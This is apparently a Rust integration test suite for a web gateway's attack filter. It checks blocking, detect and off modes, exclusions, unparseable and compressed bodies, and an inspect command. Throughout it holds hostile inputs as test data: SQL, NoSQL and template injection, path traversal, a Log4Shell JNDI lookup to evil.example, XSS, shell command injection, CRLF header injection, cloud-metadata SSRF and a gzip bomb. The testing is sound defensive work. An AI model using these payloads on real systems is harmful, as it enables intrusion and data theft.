//! The attack filter through the binary: blocked in every location with 403
//! `attack_detected`, the body forwarded intact when clean, detect-only and off modes,
//! exclusions, fail-closed bodies, metrics.

use crate::support::upstream::Upstream;
use crate::support::{Rampart, envelope, plain_client, plaintext_config, raw_exchange};

fn config(upstream: &Upstream, route_extra: &str) -> String {
    plaintext_config(&[upstream.url()], "", "")
        .replace("path = \"/\"\n", &format!("path = \"/\"\n{route_extra}\n"))
}

#[tokio::test]
async fn attacks_are_blocked_in_every_location_and_clean_requests_pass_intact() {
    let upstream = Upstream::start("a").await;
    let rampart = Rampart::start(&config(&upstream, ""));
    let client = plain_client();
    let url = |path: &str| rampart.plain_url(path);

    let attacks = [
        client.get(url("/search?q=1%27%20OR%20%271%27%3D%271")),
        client.get(url("/files/..%252f..%252fetc%252fpasswd")),
        client
            .get(url("/"))
            .header("x-api-version", "${${lower:j}ndi:ldap://evil.example/a}"),
        client
            .get(url("/"))
            .header("cookie", "theme=dark; pref=<script>alert(1)</script>"),
        client
            .post(url("/ping"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body("host=127.0.0.1%7Cid"),
        client
            .post(url("/render"))
            .header("content-type", "application/json")
            .body(r#"{"template": {"body": "{{7*7}}"}}"#),
        client
            .post(url("/login"))
            .header("content-type", "application/json")
            .body(r#"{"user": "admin", "password": {"$ne": null}}"#),
        client
            .post(url("/upload"))
            .header("content-type", "application/octet-stream")
            .header("x-file-name", "shell.php5"),
        // A quote closed into SQL that comments out the rest, a mail command appended after a
        // line break, a remote script on an address, a cmd.exe loop, a call by a template.
        client
            .post(url("/login"))
            .json(&serde_json::json!({"email": "admin@example.com' or email glob email--"})),
        client.get(url(
            "/contact?to=%0d%0aRCPT%20TO%3A%3Cvictim%40example.com%3E",
        )),
        client.get(url("/thumb?src=http%3A%2F%2F66.240.183.75%2Fcrash.php")),
        client
            .post(url("/ping"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body("host=%26+FOR+%25-+IN+%28a%2Cb%2Cc%29+DO+cmd"),
        client.get(url("/search?q=%5B%5D.sort.call%60%24%7Balert%7D1337%60")),
        // A header injected into a redirect, a line break in the path (PHP-FPM's
        // CVE-2019-11043), recipients added to a mail, an LDAP filter broken out of.
        client.get(url(
            "/go?next=%2Fhome%0d%0aSet-Cookie%3A%20session%3Dattacker",
        )),
        client.get(url("/index.php/PHP%0Ainfo.php")),
        client
            .post(url("/subscribe"))
            .json(&serde_json::json!({"email": "me@example.com\r\nBcc: list@example.com"})),
        client
            .post(url("/directory"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body("user=printer%29%28uid%3D%2A%29"),
        // A vulnerability scanner that names itself.
        client
            .get(url("/"))
            .header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        // A payload a catch-all route receives across the path's slashes, and a login bypass
        // in a password.
        client.get(url("/proxy/http://169.254.169.254/latest/meta-data/")),
        client
            .post(url("/login"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body("user=admin&password=%27%20or%20%271%27%3D%271"),
    ];
    for attack in attacks {
        let response = attack.send().await.unwrap();
        envelope(response, 403, "attack_detected").await;
    }

    let body =
        r#"{"message": "I'd like 2 < 3 and 100% cotton -- best price; select the blue one"}"#;
    let response = client
        .post(url("/chat?lang=en&q=O%27Reilly"))
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let echo: serde_json::Value = response.json().await.unwrap();
    assert_eq!(
        echo["body"], body,
        "the inspected body reaches the app unchanged"
    );

    // Generated passwords are random symbols: one that the SQL and shell rules would read as
    // a variable and a comment (`@YQp#…`), the `nl` program after `&`, or a string closed
    // into a comment (`…p3'#`) logs in.
    for password in ["rw2^@YQp#d3PoSRm", "piW2p1K&JH%&%9#d&nL", "I5e7i623p3'#"] {
        let response = client
            .post(url("/login"))
            .json(&serde_json::json!({"user": "ana", "password": password}))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200, "{password}");
    }

    // A coding assistant's chat: the user's question quotes a command, the resent answer
    // holds a fenced block of shell. Both are text, and pass; the same command injected
    // against an address is blocked.
    let chat = serde_json::json!({
        "messages": [
            {"role": "user", "content": "How do I list hidden files? `ls` shows none."},
            {"role": "assistant", "content": "Use `ls -la`:\n```sh\ncd /var/www && ls -la\ncat .env | head -5\n```\nThen check the owner."},
            {"role": "user", "content": "And `kill -9 $(lsof -t -i:3000)` frees the port?"},
            {"role": "user", "content": "Then I say 'Hello' and goodbye;"},
            {"role": "user", "content": "curl -i shows:\nHTTP/1.1 302 Found\nLocation: /login"},
            {"role": "user", "content": "May I run sqlmap or Nikto against my own staging site?"},
        ]
    });
    let response = client
        .post(url("/v1/chat/completions"))
        .json(&chat)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let response = client
        .post(url("/ping"))
        .json(&serde_json::json!({"host": "127.0.0.1`id`"}))
        .send()
        .await
        .unwrap();
    envelope(response, 403, "attack_detected").await;

    let metrics = rampart.metrics().await;
    for family in [
        "sqli", "lfi", "rfi", "java", "xss", "rce", "ssti", "nosql", "crlf", "scanner",
    ] {
        assert!(
            metrics.contains(&format!(
                "rampart_attack_filter_findings_total{{route=\"/\",family=\"{family}\",action=\"blocked\"}}"
            )),
            "{family}: {metrics}"
        );
    }
}

#[tokio::test]
async fn detect_mode_passes_and_counts_off_mode_skips_and_exclusions_narrow() {
    let upstream = Upstream::start("a").await;
    let config = plaintext_config(&[upstream.url()], "", "").replace(
        "[[route]]\npath = \"/\"\n",
        r#"[[route]]
path = "/tuning"
upstream = "app"
attack_filter = "detect"

[[route]]
path = "/raw"
upstream = "app"
attack_filter = "off"

[[route]]
path = "/code"
upstream = "app"
attack_filter_exclude = ["body:snippet", "sqli@query:sql", "scanner@header:user-agent"]

[[route]]
path = "/"
"#,
    );
    let rampart = Rampart::start(&config);
    let client = plain_client();
    let probe = "?q=%3Cscript%3Ealert(1)%3C/script%3E";
    for path in ["/tuning", "/raw"] {
        let response = client
            .get(rampart.plain_url(&format!("{path}{probe}")))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200, "{path}");
    }
    let metrics = rampart.metrics().await;
    assert!(metrics.contains(
        "rampart_attack_filter_findings_total{route=\"/tuning\",family=\"xss\",action=\"detected\"} 1"
    ));
    // Series for every family start at zero; on the unfiltered route they stay there.
    assert!(
        metrics
            .lines()
            .filter(|l| l.contains("route=\"/raw\",family"))
            .all(|l| l.ends_with(" 0")),
        "{metrics}"
    );

    let excluded = client
        .post(
            rampart.plain_url("/code?sql=SELECT%20*%20FROM%20users%20WHERE%20id%3D1%20OR%201%3D1"),
        )
        .header("content-type", "application/json")
        .header(
            "user-agent",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        )
        .body(r#"{"snippet": "<script>document.cookie</script>", "title": "notes"}"#)
        .send()
        .await
        .unwrap();
    assert_eq!(excluded.status(), 200);
    let still_checked = client
        .post(rampart.plain_url("/code"))
        .header("content-type", "application/json")
        .body(r#"{"snippet": "ok", "title": "<script>alert(1)</script>"}"#)
        .send()
        .await
        .unwrap();
    envelope(still_checked, 403, "attack_detected").await;
}

/// What the filter cannot read as the app will read it is refused: broken JSON, and text in a
/// charset other than UTF-8 or Latin-1.
#[tokio::test]
async fn bodies_the_filter_cannot_parse_are_refused() {
    let upstream = Upstream::start("a").await;
    let rampart = Rampart::start(&config(&upstream, ""));
    let response = plain_client()
        .post(rampart.plain_url("/api"))
        .header("content-type", "application/json")
        .body("{\"message\": ")
        .send()
        .await
        .unwrap();
    let body = envelope(response, 400, "invalid_request").await;
    assert!(body["message"].as_str().unwrap().contains("JSON"), "{body}");
    // Binary types are not read as text, and pass untouched.
    let response = plain_client()
        .post(rampart.plain_url("/upload"))
        .header("content-type", "application/octet-stream")
        .body(vec![0u8, 159, 146, 150, b'<', b's'])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);

    // A type backends read differently: the filter cannot read the body as the app will.
    let response = plain_client()
        .post(rampart.plain_url("/api"))
        .header("content-type", "application/octet-stream")
        .header("content-type", "application/x-www-form-urlencoded")
        .body("q=1")
        .send()
        .await
        .unwrap();
    envelope(response, 400, "invalid_request").await;

    // ASP.NET decodes a form in the charset its type names; in EBCDIC (IBM500) the attack
    // `1' or 1=1--` is bytes that mean nothing in UTF-8.
    let ebcdic: Vec<u8> = "1' or 1=1--"
        .bytes()
        .map(|b| match b {
            b'1' => 0xf1,
            b'\'' => 0x7d,
            b' ' => 0x40,
            b'o' => 0x96,
            b'r' => 0x99,
            b'=' => 0x7e,
            b'-' => 0x60,
            other => panic!("no EBCDIC for {other}"),
        })
        .collect();
    let mut form = b"q=".to_vec();
    form.extend(ebcdic.iter().flat_map(|b| format!("%{b:02X}").into_bytes()));
    let post = |content_type: &str, body: Vec<u8>| {
        plain_client()
            .post(rampart.plain_url("/api"))
            .header("content-type", content_type)
            .body(body)
            .send()
    };
    let response = post("application/x-www-form-urlencoded; charset=ibm500", form);
    let body = envelope(response.await.unwrap(), 415, "unsupported_media_type").await;
    assert_eq!(body["field"], "header:content-type");
    let latin = post(
        "application/x-www-form-urlencoded; charset=ISO-8859-1",
        b"q=caf%E9".to_vec(),
    );
    assert_eq!(latin.await.unwrap().status(), 200);
    let charset_field =
        b"--b\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nibm500\r\n--b--\r\n";
    let response = post("multipart/form-data; boundary=b", charset_field.to_vec());
    envelope(response.await.unwrap(), 400, "invalid_request").await;
}

/// An HTTP/1.1 POST whose body is sent in `chunks`.
fn chunked(path: &str, content_type: &str, chunks: &[&str]) -> Vec<u8> {
    let mut request = format!(
        "POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: {content_type}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    );
    for chunk in chunks {
        request.push_str(&format!("{:x}\r\n{chunk}\r\n", chunk.len()));
    }
    request.push_str("0\r\n\r\n");
    request.into_bytes()
}

/// A JSON body is read value by value whatever its label: `fetch` sends a string body as
/// `text/plain`, and backends such as Go's `json.Decoder` parse JSON under any type, reading
/// the first value and ignoring what follows.
#[tokio::test]
async fn json_is_read_as_json_whatever_its_label() {
    let upstream = Upstream::start("a").await;
    let rampart = Rampart::start(&config(&upstream, ""));
    let client = plain_client();
    let post = |content_type: &str, body: &str| {
        client
            .post(rampart.plain_url("/api"))
            .header("content-type", content_type)
            .body(body.to_owned())
            .send()
    };

    let attack = r#"{"q": "1\u0027 union select password from users--"}"#;
    for content_type in [
        "application/octet-stream",
        "application/x-anything",
        "image/png",
    ] {
        for body in [
            attack.to_owned(),
            format!("\n  {attack}"),
            format!("{attack} trailing bytes a lenient decoder ignores"),
        ] {
            let response = post(content_type, &body).await.unwrap();
            envelope(response, 403, "attack_detected").await;
        }
    }
    // Split into chunks, the first of them whitespace only.
    let answer = raw_exchange(
        &rampart,
        &chunked(
            "/api",
            "application/x-msgpack",
            &[" \n", "[\"<script>alert(1)</s", "cript>\", 1]\n"],
        ),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");

    // Read as raw text, this message looked like SQL (`'d … insert`); as JSON it is prose.
    let message = r#"{"message": "I'd like to insert a new line between paragraphs"}"#;
    let response = post("text/plain;charset=UTF-8", message).await.unwrap();
    assert_eq!(response.status(), 200);
    let echo: serde_json::Value = response.json().await.unwrap();
    assert_eq!(echo["body"], message);

    // Not JSON: no JSON decoder reads it, and a binary type's body passes unread and intact,
    // in chunks as well.
    let not_json = "{' or 1=1-- binary that starts with a brace";
    let response = post("application/octet-stream", not_json).await.unwrap();
    assert_eq!(response.status(), 200);
    let answer = raw_exchange(
        &rampart,
        &chunked("/echo", "image/gif", &[" ", "GIF89a", ";data"]),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(answer.contains(r#""body":" GIF89a;data""#), "{answer}");
}

/// A gzip or deflate body is checked as the app reads it, decoded, and forwarded as sent.
/// Read raw, benign compressed bodies were refused and attacks inside them passed.
#[tokio::test]
async fn compressed_bodies_are_read_decoded_and_forwarded_as_sent() {
    use std::io::Write;

    let upstream = Upstream::start("a").await;
    let rampart = Rampart::start(&config(&upstream, "max_body = \"1MB\""));
    let client = plain_client();
    let gzip = |data: &[u8]| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    };
    let post = |content_type: &str, encoding: &str, body: Vec<u8>| {
        client
            .post(rampart.plain_url("/api"))
            .header("content-type", content_type)
            .header("content-encoding", encoding)
            .body(body)
            .send()
    };

    let benign = gzip(br#"{"message": "hello there, see you at 5"}"#);
    let response = post("application/json", "gzip", benign.clone())
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let echo: serde_json::Value = response.json().await.unwrap();
    assert_eq!(echo["headers"]["content-encoding"], "gzip");
    assert_eq!(echo["body"], String::from_utf8_lossy(&benign).as_ref());
    let response = post(
        "application/x-www-form-urlencoded",
        "gzip",
        gzip(b"q=hello"),
    )
    .await
    .unwrap();
    assert_eq!(response.status(), 200);

    for (content_type, attack) in [
        (
            "application/json",
            &br#"{"q": "<script>alert(1)</script>"}"#[..],
        ),
        (
            "application/x-www-form-urlencoded",
            b"q=1%27%20union%20select%20password%20from%20users--",
        ),
        (
            "application/octet-stream",
            br#"["${jndi:ldap://evil.example/a}"]"#,
        ),
    ] {
        let response = post(content_type, "gzip", gzip(attack)).await.unwrap();
        envelope(response, 403, "attack_detected").await;
    }

    let response = post("application/json", "br", benign).await.unwrap();
    let refusal = envelope(response, 415, "unsupported_media_type").await;
    assert_eq!(refusal["field"], "header:content-encoding");
    // 4 MiB of spaces in 4 KiB, against a 1 MB limit.
    let bomb = gzip(&vec![b' '; 4 << 20]);
    let response = post("application/json", "gzip", bomb).await.unwrap();
    envelope(response, 413, "payload_too_large").await;
}

/// `rampart inspect`: each value's findings and verdict, from the arguments or standard
/// input, and exit code 1 when one would be refused.
#[test]
fn inspect_command_shows_findings_and_fails_when_a_value_is_refused() {
    use std::io::Write;
    use std::process::{Command, Stdio};

    let output = Command::new(crate::support::rampart_bin())
        .args(["inspect", "--location", "body", "--name", "message"])
        .args(["O'Reilly", "How do I run `ls -la` here?"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{stdout}");
    assert_eq!(stdout.matches("passes").count(), 2, "{stdout}");

    let mut child = Command::new(crate::support::rampart_bin())
        .arg("inspect")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(b"hello\n-1' or 1=1--\n").unwrap();
    drop(stdin);
    let output = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{stdout}");
    assert!(stdout.contains("passes  \"hello\""), "{stdout}");
    assert!(stdout.contains("refused \"-1' or 1=1--\""), "{stdout}");
    assert!(stdout.contains("sqli-"), "{stdout}");

    // A reader that stops early (`| head -1`) ends the command quietly, not with a panic.
    let mut child = Command::new(crate::support::rampart_bin())
        .arg("inspect")
        .args(std::iter::repeat_n("-1' or 1=1--", 20_000))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0u8; 7];
    std::io::Read::read_exact(child.stdout.as_mut().unwrap(), &mut first).unwrap();
    assert_eq!(&first, b"refused");
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    assert!(stderr.is_empty(), "{stderr}");

    // A path is read whole, as the gateway reads a request's, not as one value.
    let output = Command::new(crate::support::rampart_bin())
        .args(["inspect", "--location", "path"])
        .args([
            "/etc/passwd",
            "/docs/etc/passwd-explained",
            "/index.php/PHP%0Ainfo.php",
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{stdout}");
    assert!(stdout.contains("lfi-system-path"), "{stdout}");
    assert!(
        stdout.contains("passes  \"/docs/etc/passwd-explained\""),
        "{stdout}"
    );
    assert!(stdout.contains("crlf-line-break"), "{stdout}");
}
